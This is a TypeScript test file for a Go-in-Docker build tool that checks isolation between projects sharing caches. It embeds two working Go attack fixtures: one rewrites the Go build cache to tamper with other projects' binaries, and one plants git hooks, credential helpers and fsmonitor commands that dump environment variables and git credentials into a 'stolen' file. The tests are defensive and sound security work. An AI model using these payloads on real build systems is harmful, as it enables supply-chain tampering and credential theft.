import { access, readdir, readFile } from "node:fs/promises";
import { join } from "node:path";
import { expect, test } from "vitest";
import { readReport, runCli } from "../../support/cli.ts";
import { startLane } from "../../support/engines.ts";
import { startPrivateGit } from "../../support/private-git.ts";
import { makeProject, temporaryFolder } from "../../support/projects.ts";

/** Rewrites what other packages were compiled to, in place and of the same length: go looks at nothing else. */
const rewriting = `package greet

import (
	"bytes"
	"os"
	"path/filepath"
	"testing"
)

func TestRewriteCache(t *testing.T) {
	entries, _ := filepath.Glob(os.Getenv("GOCACHE") + "/*/*-d")
	for _, entry := range entries {
		content, err := os.ReadFile(entry)
		if err != nil || !bytes.Contains(content, []byte("hello, ")) {
			continue
		}
		os.WriteFile(entry, bytes.ReplaceAll(content, []byte("hello, "), []byte("pwned, ")), 0o600)
	}
}
`;

test("a project's test rewrites the build cache, and no other project's binary holds its bytes", async () => {
  const { env } = await startLane("old");
  const caches = { XDG_CACHE_HOME: await temporaryFolder() };
  const inputs = { "go-version": "1.27.3", coverage: "false", "test-args": "-count=1", targets: "linux/amd64" };
  const attacker = await makeProject("hello", { files: { "greet/greet_test.go": rewriting } });
  const victim = await makeProject("hello");
  const greetingOf = async (project: string, more: Readonly<Record<string, string>>, steps = "vet, build") => {
    const { exitCode, stderr } = await runCli({ project, env: { ...env, ...more }, inputs: { ...inputs, steps } });
    expect(exitCode, stderr).toBe(0);
    const [binary] = (await readReport(project)).binaries;
    const bytes = await readFile(join(project, binary?.path ?? ""), "latin1");
    return ["hello, ", "pwned, "].filter((word) => bytes.includes(word));
  };
  // The first run compiles what the second one's test rewrites.
  await greetingOf(attacker, caches, "test, build");
  expect(await greetingOf(attacker, caches, "test, build")).toContain("pwned, ");
  expect(await greetingOf(victim, caches)).toEqual(["hello, "]);

  // The attack is one: who shares a folder knowingly is not kept from it.
  const [own = ""] = (await readdir(join(caches.XDG_CACHE_HOME, "go-docker-action/projects"))).filter((name) =>
    name.startsWith("project-"),
  );
  const shared = { GO_DOCKER_ACTION_CACHE: join(caches.XDG_CACHE_HOME, "go-docker-action/projects", own) };
  await greetingOf(attacker, shared, "test, build");
  await greetingOf(attacker, shared, "test, build");
  expect(await greetingOf(await makeProject("hello"), shared)).toContain("pwned, ");
});

/** Makes every repository of the module cache start a program, and lets go fetch the module again. */
const planting = `package surroundings

import (
	"os"
	"path/filepath"
	"testing"

	lib "MODULE"
)

const program = "#!/bin/sh\\n{ echo \\"$0 $*\\"; env; cat /gda/in/git-credential; } >>/src/stolen 2>&1\\n"

const config = \`
[core]
	hooksPath = /go/pkg/mod/cache/vcs/hooks
	fsmonitor = /go/pkg/mod/cache/vcs/hooks/program
	alternateRefsCommand = /go/pkg/mod/cache/vcs/hooks/program
	sshCommand = /go/pkg/mod/cache/vcs/hooks/program
[credential]
	helper = /go/pkg/mod/cache/vcs/hooks/program
[filter "x"]
	clean = /go/pkg/mod/cache/vcs/hooks/program
	smudge = /go/pkg/mod/cache/vcs/hooks/program
\`

func TestPlant(t *testing.T) {
	if lib.Word() != "private" {
		t.Fatal(lib.Word())
	}
	vcs := "/go/pkg/mod/cache/vcs"
	hooks := vcs + "/hooks"
	os.MkdirAll(hooks, 0o755)
	for _, name := range []string{"program", "reference-transaction", "post-checkout", "pre-auto-gc"} {
		os.WriteFile(hooks+"/"+name, []byte(program), 0o755)
	}
	repositories, _ := filepath.Glob(vcs + "/*/config")
	for _, path := range repositories {
		file, err := os.OpenFile(path, os.O_APPEND|os.O_WRONLY, 0)
		if err != nil {
			t.Fatal(err)
		}
		file.WriteString(config)
		file.Close()
	}
	if len(repositories) == 0 {
		t.Fatal("no repository to plant in")
	}
	os.RemoveAll("/go/pkg/mod/cache/download")
	modules, _ := filepath.Glob("/go/pkg/mod/[0-9]*")
	for _, path := range modules {
		os.RemoveAll(path)
	}
}
`;

test("a test leaves git configurations in the module cache, and none is obeyed in a run that has a token", async () => {
  const lane = await startLane("old");
  const { module, token, root } = await startPrivateGit(lane);
  const files = {
    "go.mod": `module example.org/acme/needy\n\ngo 1.16\n\nrequire ${module} v1.0.0\n`,
    "plant_test.go": planting.replace("MODULE", module),
    "roots.pem": root,
  };
  const project = await makeProject("surroundings", { files });
  const inputs = {
    ...{ "go-version": "1.27.3", steps: "test", coverage: "false", "test-args": "-count=1" },
    ...{ "ca-certificates": "roots.pem", env: "GOFLAGS=-mod=mod", goprivate: `${module.split("/")[0]}/*` },
  };
  const caches = { XDG_CACHE_HOME: await temporaryFolder(), GO_DOCKER_ACTION_GIT_TOKEN: token };
  for (let run = 1; run <= 2; run += 1) {
    const { exitCode, stderr } = await runCli({ project, env: { ...lane.env, ...caches }, inputs });
    expect(exitCode, stderr).toBe(0);
  }
  await expect(access(join(project, "stolen"))).rejects.toThrow("ENOENT");
  const kept = await readdir(caches.XDG_CACHE_HOME, { recursive: true });
  expect(kept.filter((path) => path.includes("/cache/vcs/"))).toEqual([]);
});
